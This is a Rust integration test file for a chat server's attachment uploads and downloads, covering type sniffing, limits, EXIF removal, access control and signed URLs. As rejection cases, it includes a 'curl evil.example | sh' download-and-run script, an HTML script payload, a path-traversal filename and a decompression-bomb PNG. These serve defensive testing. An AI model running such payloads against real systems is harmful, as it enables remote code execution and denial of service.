//! Attachments: streamed upload with sniffed types and a size limit, downloads with ranges,
//! image clean-up and thumbnails, who may read a file, the removal of unsent uploads, and
//! downloads through signed URLs of an S3-compatible store.

use std::io::Cursor;

use reqwest::redirect::Policy;
use reqwest::{Response, StatusCode};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::helpers::{ResponseExt, TestApp, TestUser, eventually, spawn_app, spawn_app_with};

const BOUNDARY: &str = "chat-test-boundary-7d3f";

/// A multipart body with one field `name` holding `bytes` as file `file_name`.
pub fn form(name: &str, file_name: &str, claimed_type: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"{name}\"; filename=\"{file_name}\"\r\ncontent-type: {claimed_type}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

pub async fn post_form(app: &TestApp, user: &TestUser, body: Vec<u8>) -> Response {
    app.client
        .post(app.url("/api/v1/attachments"))
        .bearer_auth(&user.access_token)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(body)
        .send()
        .await
        .expect("request sent")
}

async fn upload(app: &TestApp, user: &TestUser, file_name: &str, bytes: &[u8]) -> Value {
    let response = post_form(
        app,
        user,
        form("file", file_name, "application/octet-stream", bytes),
    )
    .await;
    assert_eq!(
        response.status(),
        StatusCode::CREATED,
        "uploading {file_name}"
    );
    response.json().await.expect("json body")
}

/// Sends `file` (an upload's JSON) in a message to `group`; returns the stored message.
async fn send_file(app: &TestApp, user: &TestUser, group: &str, file: &Value) -> Value {
    let response = app
        .post_json(
            &format!("/api/v1/conversations/{group}/messages"),
            &json!({"content": "look", "attachment_ids": [file["id"]]}),
            Some(&user.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    response.json().await.expect("json body")
}

async fn download(app: &TestApp, user: &TestUser, path: &str) -> Response {
    app.get(path, Some(&user.access_token)).await
}

pub fn pdf(len: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    bytes.extend((0..len).map(|i| (i * 31 % 251) as u8));
    bytes
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A 640×480 JPEG carrying an EXIF segment with a GPS marker in it.
pub fn jpeg_with_exif() -> Vec<u8> {
    let image = image::RgbImage::from_fn(640, 480, |x, y| {
        image::Rgb([(x % 256) as u8, (y % 256) as u8, 128])
    });
    let mut plain = Vec::new();
    image
        .write_to(&mut Cursor::new(&mut plain), image::ImageFormat::Jpeg)
        .expect("jpeg");
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude=52.5200;SECRET-LOCATION".to_vec();
    exif.resize(exif.len() + 16, 0);
    let length = u16::try_from(exif.len() + 2).expect("segment size");
    let mut with_exif = plain[..2].to_vec();
    with_exif.extend_from_slice(&[0xFF, 0xE1]);
    with_exif.extend_from_slice(&length.to_be_bytes());
    with_exif.extend_from_slice(&exif);
    with_exif.extend_from_slice(&plain[2..]);
    with_exif
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[tokio::test]
async fn an_upload_comes_back_byte_for_byte_and_in_ranges() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let bytes = pdf(300_000);

    let stored = upload(&app, &alice, "../../Report: Q4*.pdf", &bytes).await;
    assert_eq!(stored["content_type"], "application/pdf");
    assert_eq!(stored["size"], bytes.len());
    assert_eq!(stored["sha256"], sha256(&bytes));
    assert_eq!(
        stored["file_name"], "Report Q4.pdf",
        "path and quotes removed"
    );
    assert_eq!(stored["has_thumbnail"], false);
    let path = format!("/api/v1/attachments/{}", stored["id"].as_str().expect("id"));

    let response = download(&app, &alice, &path).await;
    assert_eq!(response.status(), StatusCode::OK);
    let headers = response.headers().clone();
    assert_eq!(headers["content-type"], "application/pdf");
    assert_eq!(headers["accept-ranges"], "bytes");
    let disposition = headers["content-disposition"].to_str().expect("ascii");
    assert!(
        disposition.starts_with("attachment;") && disposition.contains("Report Q4.pdf"),
        "{disposition}"
    );
    let body = response.bytes().await.expect("body");
    assert_eq!(sha256(&body), sha256(&bytes));

    for (range, slice, total) in [
        ("bytes=10-19", &bytes[10..20], "bytes 10-19"),
        ("bytes=-5", &bytes[bytes.len() - 5..], "bytes 300004-300008"),
        // The largest end a client can write: the whole file, no overflow.
        ("bytes=0-18446744073709551615", &bytes[..], "bytes 0-300008"),
    ] {
        let response = app
            .client
            .get(app.url(&path))
            .bearer_auth(&alice.access_token)
            .header("range", range)
            .send()
            .await
            .expect("request sent");
        assert_eq!(response.status(), StatusCode::PARTIAL_CONTENT, "{range}");
        let content_range = response.headers()["content-range"]
            .to_str()
            .expect("ascii")
            .to_owned();
        assert_eq!(content_range, format!("{total}/{}", bytes.len()));
        assert_eq!(&response.bytes().await.expect("body")[..], slice);
    }
    let response = app
        .client
        .get(app.url(&path))
        .bearer_auth(&alice.access_token)
        .header("range", "bytes=999999999-")
        .send()
        .await
        .expect("request sent");
    assert_eq!(response.status(), StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(
        response.headers()["content-range"],
        format!("bytes */{}", bytes.len()).as_str()
    );
    assert_eq!(response.problem().await.code, "range_not_satisfiable");
}

/// How many objects the app's file store holds: its folder, or its bucket.
pub async fn stored_files(app: &TestApp) -> usize {
    fn count(dir: &std::path::Path) -> usize {
        std::fs::read_dir(dir).map_or(0, |entries| {
            entries
                .flatten()
                .map(|e| {
                    if e.path().is_dir() {
                        count(&e.path())
                    } else {
                        1
                    }
                })
                .sum()
        })
    }
    let s3 = &app.settings.attachments.s3;
    if s3.bucket.is_empty() {
        return count(&app.settings.attachments_dir());
    }
    let listing = reqwest::get(format!("{}/{}?list-type=2", s3.endpoint, s3.bucket))
        .await
        .expect("bucket listed")
        .text()
        .await
        .expect("listing");
    listing.matches("<Key>").count()
}

#[tokio::test]
async fn files_over_the_limit_are_refused_and_leave_nothing_behind() {
    const LIMIT: usize = 16 * 1024;
    let app = spawn_app_with(|s| s.attachments.max_bytes = LIMIT as u64).await;
    let alice = app.register("alice").await;

    for bytes in [pdf(200_000), jpeg_with_exif()] {
        assert!(bytes.len() > LIMIT);
        let response =
            post_form(&app, &alice, form("file", "big", "application/pdf", &bytes)).await;
        assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
        assert_eq!(response.problem().await.code, "too_large");
    }
    assert_eq!(stored_files(&app).await, 0);
    upload(&app, &alice, "small.pdf", &pdf(1000)).await;
    assert_eq!(stored_files(&app).await, 1);
}

#[tokio::test]
async fn uploads_are_limited_per_user_and_a_refused_one_stores_nothing() {
    let app = spawn_app_with(|s| {
        s.rate_limit.uploads_per_user.max = 2;
        s.rate_limit.uploads_per_user.per_secs = 600;
    })
    .await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    upload(&app, &alice, "one.pdf", &pdf(1000)).await;
    upload(&app, &alice, "two.pdf", &pdf(1000)).await;

    let refused = post_form(
        &app,
        &alice,
        form("file", "three.pdf", "application/pdf", &pdf(1000)),
    )
    .await;

    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
    assert_eq!(stored_files(&app).await, 2);
    upload(&app, &bob, "bob.pdf", &pdf(1000)).await;
}

#[tokio::test]
async fn the_type_comes_from_the_bytes_never_the_name_or_the_claim() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let cases: [(&str, &[u8]); 3] = [
        ("cute-cat.png", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("page.png", b"<html><script>alert(1)</script></html>"),
        (
            "fake.png",
            b"\x89PNG\r\n\x1a\n but no image after the signature",
        ),
    ];
    for (name, bytes) in cases {
        let response = post_form(&app, &alice, form("file", name, "image/png", bytes)).await;
        assert_eq!(
            response.status(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "{name}"
        );
        assert_eq!(response.problem().await.code, "unsupported_media_type");
    }
    assert_eq!(stored_files(&app).await, 0);
    // A real PDF claimed to be a PNG is stored as what it is.
    let stored = upload(&app, &alice, "doc.png", &pdf(100)).await;
    assert_eq!(stored["content_type"], "application/pdf");
}

/// A PNG whose header declares `width` × `height` pixels, with no real pixel data after it:
/// a few hundred bytes that would decode into gigabytes.
fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
        let mut out = (data.len() as u32).to_be_bytes().to_vec();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let crc = crc32(&out[4..]);
        out.extend_from_slice(&crc.to_be_bytes());
        out
    }
    fn crc32(bytes: &[u8]) -> u32 {
        let mut crc = 0xFFFF_FFFFu32;
        for byte in bytes {
            crc ^= u32::from(*byte);
            for _ in 0..8 {
                crc = if crc & 1 == 1 {
                    (crc >> 1) ^ 0xEDB8_8320
                } else {
                    crc >> 1
                };
            }
        }
        !crc
    }
    let mut header = width.to_be_bytes().to_vec();
    header.extend_from_slice(&height.to_be_bytes());
    header.extend_from_slice(&[8, 6, 0, 0, 0]); // 8-bit RGBA
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(chunk(b"IHDR", &header));
    png.extend(chunk(
        b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    ));
    png.extend(chunk(b"IEND", &[]));
    png
}

#[tokio::test]
async fn an_image_declaring_too_many_pixels_is_refused_before_decoding() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let bomb = png_declaring(12_000, 12_000);
    assert!(bomb.len() < 1000);

    let response = post_form(&app, &alice, form("file", "bomb.png", "image/png", &bomb)).await;

    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(response.problem().await.code, "image_too_large");
    assert_eq!(stored_files(&app).await, 0);
}

#[tokio::test]
async fn the_pixel_limit_is_a_setting() {
    let app = spawn_app_with(|s| s.attachments.max_image_pixels = 640 * 480 - 1).await;
    let alice = app.register("alice").await;

    let response = post_form(
        &app,
        &alice,
        form("file", "photo.jpg", "image/jpeg", &jpeg_with_exif()),
    )
    .await;

    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(response.problem().await.code, "image_too_large");
}

/// A landscape JPEG whose EXIF says to turn it 90° clockwise, as phones store portraits.
fn jpeg_turned_by_exif() -> Vec<u8> {
    let image = image::RgbImage::from_fn(64, 32, |x, _| image::Rgb([(x * 4) as u8, 0, 0]));
    let mut plain = Vec::new();
    image
        .write_to(&mut Cursor::new(&mut plain), image::ImageFormat::Jpeg)
        .expect("jpeg");
    let mut exif = b"Exif\0\0MM\0*\0\0\0\x08".to_vec();
    exif.extend_from_slice(&1u16.to_be_bytes()); // one entry
    exif.extend_from_slice(&0x0112u16.to_be_bytes()); // Orientation
    exif.extend_from_slice(&3u16.to_be_bytes()); // SHORT
    exif.extend_from_slice(&1u32.to_be_bytes());
    exif.extend_from_slice(&[0, 6, 0, 0]); // 6: turn 90° clockwise
    exif.extend_from_slice(&0u32.to_be_bytes());
    let length = u16::try_from(exif.len() + 2).expect("segment size");
    let mut with_exif = plain[..2].to_vec();
    with_exif.extend_from_slice(&[0xFF, 0xE1]);
    with_exif.extend_from_slice(&length.to_be_bytes());
    with_exif.extend_from_slice(&exif);
    with_exif.extend_from_slice(&plain[2..]);
    with_exif
}

#[tokio::test]
async fn photos_are_turned_as_their_exif_says_before_it_is_dropped() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;

    let stored = upload(&app, &alice, "portrait.jpg", &jpeg_turned_by_exif()).await;

    assert_eq!(
        (stored["width"].clone(), stored["height"].clone()),
        (json!(32), json!(64))
    );
    let id = stored["id"].as_str().expect("id");
    let bytes = download(&app, &alice, &format!("/api/v1/attachments/{id}"))
        .await
        .bytes()
        .await
        .expect("body");
    assert!(!contains(&bytes, b"Exif"));
    let clean = image::load_from_memory(&bytes).expect("an image");
    assert_eq!((clean.width(), clean.height()), (32, 64));
    // Turned clockwise: the original's left edge (dark) is now the top.
    let top = clean.to_rgb8().get_pixel(16, 2).0[0];
    let bottom = clean.to_rgb8().get_pixel(16, 61).0[0];
    assert!(top < bottom, "top {top}, bottom {bottom}");
    let thumbnail = download(&app, &alice, &format!("/api/v1/attachments/{id}/thumbnail"))
        .await
        .bytes()
        .await
        .expect("body");
    let thumbnail = image::load_from_memory(&thumbnail).expect("a thumbnail");
    assert!(thumbnail.height() > thumbnail.width());
}

#[tokio::test]
async fn images_lose_their_metadata_and_get_a_thumbnail() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let original = jpeg_with_exif();
    assert!(contains(&original, b"SECRET-LOCATION"));

    let stored = upload(&app, &alice, "holiday.jpg", &original).await;
    assert_eq!(stored["content_type"], "image/jpeg");
    assert_eq!(
        (stored["width"].clone(), stored["height"].clone()),
        (json!(640), json!(480))
    );
    assert_eq!(stored["has_thumbnail"], true);
    let id = stored["id"].as_str().expect("id");

    let response = download(&app, &alice, &format!("/api/v1/attachments/{id}")).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("inline;")
    );
    let body = response.bytes().await.expect("body");
    assert!(
        !contains(&body, b"SECRET-LOCATION") && !contains(&body, b"Exif"),
        "EXIF removed"
    );
    assert_eq!(sha256(&body), stored["sha256"]);
    let decoded = image::load_from_memory(&body).expect("still a JPEG");
    assert_eq!((decoded.width(), decoded.height()), (640, 480));

    let response = download(&app, &alice, &format!("/api/v1/attachments/{id}/thumbnail")).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "image/jpeg");
    let thumbnail = image::load_from_memory(&response.bytes().await.expect("body")).expect("jpeg");
    assert_eq!((thumbnail.width(), thumbnail.height()), (320, 240));

    let pdf = upload(&app, &alice, "a.pdf", &pdf(10)).await;
    let response = download(
        &app,
        &alice,
        &format!(
            "/api/v1/attachments/{}/thumbnail",
            pdf["id"].as_str().expect("id")
        ),
    )
    .await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert_eq!(response.problem().await.code, "thumbnail_not_found");
}

#[tokio::test]
async fn a_file_is_its_uploaders_until_sent_then_the_conversations() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let carol = app.register("carol").await;
    let bob = app.register("bob").await;
    let group = app.create_group(&alice, "g", &[&carol]).await;
    let bobs = app.create_group(&bob, "b", &[&alice]).await;
    let stored = upload(&app, &alice, "cat.jpg", &jpeg_with_exif()).await;
    let id = stored["id"].as_str().expect("id").to_owned();
    let file = format!("/api/v1/attachments/{id}");
    let thumbnail = format!("{file}/thumbnail");

    for path in [&file, &thumbnail] {
        let response = download(&app, &carol, path).await;
        assert_eq!(
            response.status(),
            StatusCode::NOT_FOUND,
            "not sent yet: {path}"
        );
        assert_eq!(response.problem().await.code, "attachment_not_found");
    }
    // Nobody sends someone else's upload.
    let response = app
        .post_json(
            &format!("/api/v1/conversations/{bobs}/messages"),
            &json!({"content": "mine now", "attachment_ids": [id]}),
            Some(&bob.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(response.problem().await.fields, ["attachment_ids"]);

    let response = app
        .post_json(
            &format!("/api/v1/conversations/{group}/messages"),
            &json!({"content": "look", "attachment_ids": [id]}),
            Some(&alice.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);
    let message: Value = response.json().await.expect("json");
    assert_eq!(message["attachment_ids"], json!([id]));
    let history = app
        .get_ok(
            &format!("/api/v1/conversations/{group}/messages"),
            &carol.access_token,
        )
        .await;
    assert_eq!(history["messages"][0]["attachment_ids"], json!([id]));

    for path in [&file, &thumbnail] {
        assert_eq!(
            download(&app, &carol, path).await.status(),
            StatusCode::OK,
            "{path}"
        );
        assert_eq!(
            download(&app, &alice, path).await.status(),
            StatusCode::OK,
            "{path}"
        );
        let response = download(&app, &bob, path).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "outsider: {path}");
    }
    // A file goes out with one message only.
    let response = app
        .post_json(
            &format!("/api/v1/conversations/{bobs}/messages"),
            &json!({"content": "again", "attachment_ids": [id]}),
            Some(&alice.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        download(&app, &bob, &file).await.status(),
        StatusCode::NOT_FOUND
    );
    let bobs_history = app
        .get_ok(
            &format!("/api/v1/conversations/{bobs}/messages"),
            &bob.access_token,
        )
        .await;
    assert_eq!(
        bobs_history["messages"].as_array().map(Vec::len),
        Some(0),
        "nothing half-sent"
    );
}

#[tokio::test]
async fn bad_uploads_and_downloads_get_problems() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;

    let response = post_form(
        &app,
        &alice,
        form("picture", "a.pdf", "application/pdf", &pdf(10)),
    )
    .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(response.problem().await.fields, ["file"]);
    let response = post_form(
        &app,
        &alice,
        form("file", "empty.pdf", "application/pdf", b""),
    )
    .await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(response.problem().await.fields, ["file"]);
    let response = app
        .post_json(
            "/api/v1/attachments",
            &json!({"file": "aGk="}),
            Some(&alice.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    response.problem().await;
    let response = app
        .client
        .post(app.url("/api/v1/attachments"))
        .bearer_auth(&alice.access_token)
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(format!(
            "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"file\"\r\n\r\nunterminated"
        ))
        .send()
        .await
        .expect("request sent");
    assert!(response.status().is_client_error(), "{}", response.status());
    response.problem().await;
    let response = app
        .client
        .post(app.url("/api/v1/attachments"))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={BOUNDARY}"),
        )
        .body(form("file", "a.pdf", "application/pdf", &pdf(10)))
        .send()
        .await
        .expect("request sent");
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(stored_files(&app).await, 0);

    let unknown = format!("/api/v1/attachments/{}", uuid::Uuid::now_v7());
    let response = download(&app, &alice, &unknown).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    response.problem().await;
    let response = download(&app, &alice, "/api/v1/attachments/not-a-uuid").await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    response.problem().await;
    let response = app.get(&unknown, None).await;
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn uploads_never_sent_are_removed_and_sent_ones_kept() {
    let app = spawn_app_with(|s| {
        s.attachments.orphan_ttl_secs = 2;
        s.attachments.cleanup_interval_secs = 1;
    })
    .await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let group = app.create_group(&alice, "g", &[&bob]).await;
    let unsent = upload(&app, &alice, "draft.pdf", &pdf(100)).await;
    let sent = upload(&app, &alice, "final.jpg", &jpeg_with_exif()).await;
    let response = app
        .post_json(
            &format!("/api/v1/conversations/{group}/messages"),
            &json!({"content": "final", "attachment_ids": [sent["id"]]}),
            Some(&alice.access_token),
        )
        .await;
    assert_eq!(response.status(), StatusCode::CREATED);

    let unsent_path = format!("/api/v1/attachments/{}", unsent["id"].as_str().expect("id"));
    eventually("the unsent upload is removed", || async {
        (download(&app, &alice, &unsent_path).await.status() == StatusCode::NOT_FOUND).then_some(())
    })
    .await;
    let sent_path = format!("/api/v1/attachments/{}", sent["id"].as_str().expect("id"));
    assert_eq!(
        download(&app, &bob, &sent_path).await.status(),
        StatusCode::OK
    );
    assert_eq!(
        download(&app, &bob, &format!("{sent_path}/thumbnail"))
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(
        stored_files(&app).await,
        2,
        "the sent file and its thumbnail, nothing else"
    );
}

#[tokio::test]
#[ignore = "needs an S3-compatible store: set TEST_S3_URL and run with --include-ignored (CI's second pass does)"]
async fn with_signed_urls_downloads_go_straight_to_the_store() {
    let app = spawn_app_with(|s| s.attachments.s3.presign_ttl_secs = 300).await;
    let s3 = &app.settings.attachments.s3;
    assert!(!s3.bucket.is_empty(), "TEST_S3_URL is set");
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let carol = app.register("carol").await;
    let group = app.create_group(&alice, "g", &[&bob]).await;
    let stored = upload(&app, &alice, "holiday.jpg", &jpeg_with_exif()).await;
    send_file(&app, &alice, &group, &stored).await;
    let path = format!("/api/v1/attachments/{}", stored["id"].as_str().expect("id"));
    let manual = reqwest::Client::builder()
        .redirect(Policy::none())
        .build()
        .expect("client");
    let redirect_for = |user: &TestUser, path: String| {
        manual
            .get(app.url(&path))
            .bearer_auth(&user.access_token)
            .send()
    };

    let response = redirect_for(&bob, path.clone()).await.expect("sent");
    assert_eq!(response.status(), StatusCode::TEMPORARY_REDIRECT);
    assert_eq!(response.headers()["cache-control"], "no-store");
    let location = response.headers()["location"]
        .to_str()
        .expect("ascii")
        .to_owned();
    assert!(
        location.starts_with(&format!("{}/{}/", s3.endpoint, s3.bucket))
            && location.contains("X-Amz-Signature="),
        "{location}"
    );
    // The link itself is the credential: no token goes to the store.
    let file = reqwest::get(&location).await.expect("store answers");
    assert_eq!(file.status(), StatusCode::OK);
    assert_eq!(file.headers()["content-type"], "image/jpeg");
    assert!(
        file.headers()["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("inline; filename=\"holiday.jpg\"")
    );
    assert_eq!(sha256(&file.bytes().await.expect("body")), stored["sha256"]);

    let response = redirect_for(&bob, format!("{path}/thumbnail"))
        .await
        .expect("sent");
    assert_eq!(response.status(), StatusCode::TEMPORARY_REDIRECT);
    let location = response.headers()["location"].to_str().expect("ascii");
    let thumbnail = reqwest::get(location).await.expect("store answers");
    assert_eq!(thumbnail.headers()["content-type"], "image/jpeg");
    let thumbnail = image::load_from_memory(&thumbnail.bytes().await.expect("body")).expect("jpeg");
    assert_eq!((thumbnail.width(), thumbnail.height()), (320, 240));

    // A client that follows redirects (as generated SDKs do) just gets the file.
    let followed = download(&app, &bob, &path).await;
    assert_eq!(followed.status(), StatusCode::OK);
    assert_eq!(
        sha256(&followed.bytes().await.expect("body")),
        stored["sha256"]
    );

    let response = redirect_for(&carol, path.clone()).await.expect("sent");
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert!(response.headers().get("location").is_none());
    assert_eq!(response.problem().await.code, "attachment_not_found");
}

#[tokio::test]
async fn a_deleted_message_takes_its_files_with_it() {
    let app = spawn_app_with(|s| {
        s.attachments.orphan_ttl_secs = 2;
        s.attachments.cleanup_interval_secs = 1;
    })
    .await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let group = app.create_group(&alice, "g", &[&bob]).await;
    let stored = upload(&app, &alice, "holiday.jpg", &jpeg_with_exif()).await;
    let message = send_file(&app, &alice, &group, &stored).await;
    let path = format!("/api/v1/attachments/{}", stored["id"].as_str().expect("id"));
    assert_eq!(download(&app, &bob, &path).await.status(), StatusCode::OK);

    let message_path = format!(
        "/api/v1/conversations/{group}/messages/{}",
        message["id"].as_str().expect("id")
    );
    let deleted = app.delete(&message_path, Some(&alice.access_token)).await;
    assert_eq!(deleted.status(), StatusCode::NO_CONTENT);

    let response = download(&app, &bob, &path).await;
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    assert_eq!(response.problem().await.code, "attachment_not_found");
    let page = app
        .get_ok(
            &format!("/api/v1/conversations/{group}/messages"),
            &bob.access_token,
        )
        .await;
    assert_eq!(page["messages"][0]["attachment_ids"], json!([]));
    eventually(
        "the file and its thumbnail are removed from storage",
        || async { (stored_files(&app).await == 0).then_some(()) },
    )
    .await;
    assert_eq!(
        download(&app, &alice, &path).await.status(),
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn a_picture_can_be_sent_without_text_but_a_message_needs_one_or_the_other() {
    let app = spawn_app().await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let group = app.create_group(&alice, "g", &[&bob]).await;
    let stored = upload(&app, &alice, "holiday.jpg", &jpeg_with_exif()).await;
    let path = format!("/api/v1/conversations/{group}/messages");

    let empty = app
        .post_json(&path, &json!({"content": "  "}), Some(&alice.access_token))
        .await;
    assert_eq!(empty.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(empty.problem().await.fields, ["content"]);
    let nothing = app
        .post_json(&path, &json!({}), Some(&alice.access_token))
        .await;
    assert_eq!(nothing.status(), StatusCode::UNPROCESSABLE_ENTITY);

    let sent = app
        .post_json(
            &path,
            &json!({"attachment_ids": [stored["id"]]}),
            Some(&alice.access_token),
        )
        .await;
    assert_eq!(sent.status(), StatusCode::CREATED);
    let sent: Value = sent.json().await.expect("json body");
    assert_eq!(sent["content"], "");
    assert_eq!(sent["attachment_ids"], json!([stored["id"]]));
    assert_eq!(sent["seq"], 1, "the refused sends took no seq");
    let file = format!("/api/v1/attachments/{}", stored["id"].as_str().expect("id"));
    assert_eq!(download(&app, &bob, &file).await.status(), StatusCode::OK);
}
